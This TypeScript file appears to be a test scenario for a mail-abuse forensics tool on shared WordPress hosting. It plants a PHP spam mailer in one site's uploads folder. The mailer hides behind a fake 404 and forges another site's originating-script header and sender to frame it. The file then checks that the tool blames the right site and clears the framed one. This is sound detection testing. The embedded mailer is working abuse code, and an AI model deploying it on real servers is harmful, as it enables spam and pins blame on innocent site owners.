import type { Box } from '../box/box.ts';
import { drawShops, startHosting } from '../play/hosting.ts';
import { ordinaryMail, ordinaryRules, ordinaryVisits } from '../play/ordinary.ts';
import { drawBody, drawSpamRun, drawSubject, inLots } from '../play/spam.ts';
import { nearly } from '../play/expectation.ts';
import type { Stage, Story, Truth } from '../play/stage.ts';
import { after, drawWaves, everydayWork, partOf, play } from '../play/timeline.ts';
import { drawVisitor, visit } from '../play/visitors.ts';
import type { ShopSite } from '../play/wordpress.ts';
import { docroot } from '../programs/apache.ts';
import { drawPlantedScript, type PlantedScript } from './planted-script.ts';

/** A mailer that lays the blame on another site: that site's directory, its sender, and the header its PHP would have written. */
async function plantFramer(box: Box, script: PlantedScript, framed: ShopSite): Promise<void> {
  const owner = (await box.run(['id', '-u', framed.owner])).stdout.trim();
  const text = `<?php
error_reporting(0);
if (!isset($_POST['e'])) { header('HTTP/1.0 404 Not Found'); exit; }
chdir('${docroot(framed)}');
$n = 0;
foreach (explode(';', base64_decode($_POST['e'])) as $to) {
    $p = popen('/usr/sbin/sendmail -t -i', 'w');
    fwrite($p, "To: $to\\nSubject: {$_POST['s']}\\nX-PHP-Originating-Script: ${owner}:pluggable.php\\nFrom: ${framed.domain.split('-')[0]} <wordpress@${framed.domain}>\\nContent-Type: text/plain; charset=UTF-8\\n\\n" . base64_decode($_POST['b']));
    if (pclose($p) === 0) $n++;
}
echo 'OK ' . $n;
`;
  await box.write({ path: script.path, text, owner: 'www-data:www-data' });
  await box.script(`chown -R www-data:www-data '${docroot(script.site)}/wp-content/uploads/'20*`);
}

async function playFraming({ box, random, span }: Stage): Promise<Truth> {
  const sites = drawShops(random, 4);
  const [guilty, framed, ...others] = random.shuffle(sites) as [ShopSite, ShopSite, ...ShopSite[]];
  const script = drawPlantedScript(random, guilty);
  const run = drawSpamRun(random, random.int(50, 60));
  const lots = inLots(random, run.recipients, 1, 4);
  await startHosting(box, { sites, php: 'module', log: 'rich', rules: new Map([...ordinaryRules(random, sites), ...run.rules]) });
  await plantFramer(box, script, framed);

  const moments = [
    ...drawWaves(random, { from: partOf(span, random.int(55, 68) / 100), to: after(span.to, -900) }, 3, lots.length - 4),
    ...drawWaves(random, { from: after(span.to, -500), to: after(span.to, -260) }, 1, 4),
  ];
  const attacker = drawVisitor(random, 'Go-http-client/1.1');
  await play(box, [
    ...everydayWork(box, span),
    ...lots.map((lot, at) => {
      const form = { e: Buffer.from(lot.join(';')).toString('base64'), s: drawSubject(random), b: Buffer.from(drawBody(random)).toString('base64') };
      return { at: moments[at] ?? new Date(NaN), run: () => visit(box, attacker, guilty.domain, [{ path: script.url, form }]) };
    }),
    ...ordinaryMail(random.branch('busy'), framed, span, run.recipients.length - 4),
    ...sites.flatMap((site) => ordinaryVisits(random.branch(site.domain), site, span, random.int(6, 10))),
    ...[guilty, ...others].flatMap((site) => ordinaryMail(random.branch(site.domain), site, span, random.int(4, 8))),
  ]);

  const id = `script:${script.path}`;
  return {
    findings: [
      {
        id,
        natures: ['planted-script'],
        confidence: 'possible',
        active: true,
        proofs: ['access-log'],
        // Where the framed site was itself asked for something that sends mail, a few requests' messages are left to nobody.
        figures: { messages: { ...nearly(run.recipients.length), least: run.recipients.length - 12 } },
      },
    ],
    leftovers: /^unknown:shared-user-/,
    innocents: [framed, ...others].flatMap((site) => [docroot(site), site.domain]),
    cleared: [],
    without: [
      {
        says: 'no access logs: nothing but forged traces is left, so nobody may be named',
        remove: ['var/log/apache2/*'],
        mustFind: false,
        allowed: [{ id: /^unknown:/, atMost: 'possible' }],
      },
      {
        says: 'no log of the guilty site: the framed one must not take its place',
        remove: [`var/log/apache2/${guilty.domain}-access.log*`],
        mustFind: false,
        allowed: [{ id: /^unknown:/, atMost: 'possible' }],
      },
      { says: 'neither logs nor queue: nothing can be said', remove: ['var/log/*', 'var/spool/exim4/*'], mustFind: false, allowed: [] },
    ],
  };
}

/** Story 7. */
export const framing: Story = {
  id: 'framing',
  suite: 'bookworm',
  tells: "a script of one www-data site sends from another's directory with that site's X-PHP-Originating-Script header",
  play: playFraming,
};
